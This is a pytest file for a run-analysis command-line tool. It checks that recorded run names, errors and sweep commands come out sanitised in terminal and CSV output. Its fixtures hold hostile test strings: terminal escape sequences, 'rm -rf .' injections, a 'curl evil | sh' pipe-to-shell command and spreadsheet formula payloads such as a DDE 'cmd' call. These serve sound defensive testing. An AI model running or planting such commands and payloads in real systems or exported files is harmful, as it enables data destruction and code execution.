"""Recorded text on a terminal, in files and in spreadsheets."""

import csv
import io
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from analysis.__main__ import main
from analysis.sheets.sheet import spelt_out
from tffd.texts import printable

ESCAPE = "\x1b]0;owned\x07\x9b31m\u202e[bold]```\r\n| x"
CONTROL = re.compile(r"[^\x20-\x7e\n±×]")


def test_both_sides_spell_characters_out_alike() -> None:
    every = "".join(map(chr, range(0x3000))) + "\u202e\ufeff\ud800\U000e0001"
    assert printable(every) == spelt_out(every)
    assert printable(every).isprintable()


@pytest.fixture
def hostile(tmp_path: Path, write_run: Any, write_sweep: Any) -> Path:
    """A search whose every recorded text is hostile: names, settings, errors, commands, directories."""
    fields = {"kd_mode": f"tfd{ESCAPE}", "name": ESCAPE, "model": ESCAPE, "device": ESCAPE}
    for number in range(2):
        run = write_run(f"x/search/{number:04d}", seed=0, trial=number, val_top1=60.0 + number, **fields)
        words = [f'"trainer.lr={number}"', '"name=```\\n; rm -rf .\\x1b[2J"', '"x; rm -rf .=1"']
        (run / ".hydra" / "overrides.yaml").write_text("".join(f"- {word}\n" for word in words))
    write_run("x/search/0002", status="failed", error=ESCAPE, trial=2, **fields)
    write_run(f"x/{ESCAPE.replace('/', '')}", ended=False)
    (write_run("x/broken") / "result.json").write_text('{"status": "\\u001b[2J\\n```"}')
    study = {"study": "search", "kind": "search", "n_trials": 9}
    grid = {"study": f"g{ESCAPE}", "kind": "grid", "n_trials": 1, "cells": [{"kd_mode": ESCAPE}]}
    command = "python run.py -m sweep=lambdas; curl evil | sh\n\x1b[2J"
    write_sweep(study, grid, path="x", command=command, fixed=[ESCAPE], space={"trainer.lr": "[0, 1]"}, name=ESCAPE)
    return tmp_path / "x"


@pytest.mark.parametrize(
    "command",
    [["status"], ["best"], ["table"], ["table", "--missing"], ["table", "--format", "latex"],
     ["plot", "--kind", "history"], ["table", "--rows", "name,kd_mode"]],
)  # fmt: skip
def test_no_recorded_text_reaches_a_terminal_as_more_than_a_line(
    hostile: Path, capsys: Any, command: list[str]
) -> None:
    assert main([*command, str(hostile)]) == 0
    out, err = capsys.readouterr()
    assert not CONTROL.findall(out + err)
    assert "curl evil" not in out + err
    fences = [line for line in out.splitlines() if line.startswith("```")]
    assert len(fences) % 2 == 0
    assert all(line.startswith(("python ", "#")) for line in _fenced(out))


def _fenced(text: str) -> list[str]:
    parts = re.split(r"^```$", text, flags=re.MULTILINE)
    return [line for part in parts[1::2] for line in part.strip().splitlines()]


@pytest.mark.parametrize("command", [["runs"], ["table", "--format", "csv"], ["compare", "--format", "csv"]])
def test_notes_beside_csv_are_lines_of_printable_text(hostile: Path, capsys: Any, command: list[str]) -> None:
    trees = [str(hostile)]
    if command[0] == "compare":
        trees.append(shutil.copytree(hostile, hostile.with_name("y")))
    assert main([*command, *map(str, trees)]) == 0
    assert not CONTROL.findall(capsys.readouterr().err)


def test_a_message_that_quotes_what_was_recorded_is_printable(tmp_path: Path, write_run: Any, capsys: Any) -> None:
    write_run("0", status="failed", error=ESCAPE)
    assert main(["table", str(tmp_path)]) == 2
    assert not CONTROL.findall(capsys.readouterr().err)


@pytest.mark.parametrize("format_", ["csv", "json"])
def test_a_file_gets_what_was_recorded_and_a_terminal_what_it_can_show(
    hostile: Path, capsys: Any, monkeypatch: Any, format_: str
) -> None:
    assert main(["runs", str(hostile), "--format", format_]) == 0
    assert "\x9b31m" in capsys.readouterr().out
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    assert main(["runs", str(hostile), "--format", format_]) == 0
    assert not CONTROL.findall(capsys.readouterr().out)


def test_texts_that_a_spreadsheet_would_run(tmp_path: Path, write_run: Any, capsys: Any) -> None:
    texts = ["=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(A1)", "\t=1", "＝1", "plain", "a=b"]
    for number, text in enumerate(texts):
        write_run(f"{number}", name=text, seed=number, val_loss=0.5, **{"=field": "x"})
    for safe in ([], ["--safe-csv"]):
        assert main(["runs", str(tmp_path), *safe]) == 0
        rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
        mark = "'" if safe else ""
        assert [row["name"] for row in rows] == [*(mark + text for text in texts[:-2]), *texts[-2:]]
        assert {row["val_loss"] for row in rows} == {"0.5"}
        assert {row[f"{mark}=field"] for row in rows} == {"x"}
    assert main(["table", str(tmp_path), "--rows", "name", "--format", "csv", "--safe-csv"]) == 0
    assert "\n'+1+1,val_top1," in capsys.readouterr().out
